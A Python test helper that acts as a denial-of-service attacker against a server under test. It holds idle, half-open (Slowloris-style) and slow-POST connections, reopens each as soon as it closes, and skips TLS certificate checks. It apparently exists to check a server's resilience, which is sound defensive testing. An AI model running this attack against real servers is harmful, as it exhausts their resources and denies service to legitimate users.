"""An attacker who holds connections and takes each again as soon as it is closed; run as a program of its own.

`python -m tests.attacks.held_connections ADDRESS PATH IDLE HALF_OPEN SLOW` holds so many that send nothing, that never
end their head, and that send a byte of a form now and then; it says `held` when it tried to open each once.
"""

import asyncio
import ssl
import sys
from contextlib import suppress
from itertools import cycle
from urllib.parse import urlsplit

DRIP = 1.0
PAUSE = 0.2
AT_ONCE = 200
OWN = [f"127.0.0.{n}" for n in range(2, 10)]
"""Addresses that the attacker has; honest phones of the tests come from others."""
HALF_OPEN = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
SLOW = (
    b"POST %s HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    b"Content-Length: 60000\r\n\r\n"
)


class Attacker:
    """Whoever holds `n` connections of a kind: `first` is sent at once, then, where it drips, a byte a second."""

    def __init__(self, address: str):
        place = urlsplit(address)
        self._host, self._port = str(place.hostname), int(place.port or 0)
        self._tls = place.scheme == "https"
        self._opening = asyncio.Semaphore(AT_ONCE)
        self._own = cycle(OWN)
        self.tried = 0

    async def hold(self, first: bytes, drips: bool) -> None:
        """One connection, taken again for ever."""
        new = 1
        while True:
            with suppress(OSError):
                async with self._opening:
                    self.tried, new = self.tried + new, 0
                    reader, writer = await asyncio.open_connection(
                        self._host, self._port, ssl=self._encrypt(first), local_addr=(next(self._own), 0)
                    )
                writer.write(first)
                reading = asyncio.create_task(reader.read())
                while drips and not reading.done():
                    writer.write(b"a")
                    await asyncio.wait([reading], timeout=DRIP)
                await reading
                writer.close()
            await asyncio.sleep(PAUSE)

    def _encrypt(self, first: bytes) -> ssl.SSLContext | None:
        """Who sends nothing sends no handshake either."""
        return ssl._create_unverified_context() if self._tls and first else None


async def attack(address: str, path: str, counts: list[int]) -> None:
    """Hold them until this process is killed."""
    attacker = Attacker(address)
    kinds = [(b"", False), (HALF_OPEN, True), (SLOW % path.encode(), True)]
    async with asyncio.TaskGroup() as group:
        for n, (first, drips) in zip(counts, kinds, strict=True):
            for _ in range(n):
                group.create_task(attacker.hold(first, drips))
        while attacker.tried < sum(counts):
            await asyncio.sleep(PAUSE)
        print("held", flush=True)


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], sys.argv[2], [int(word) for word in sys.argv[3:]]))
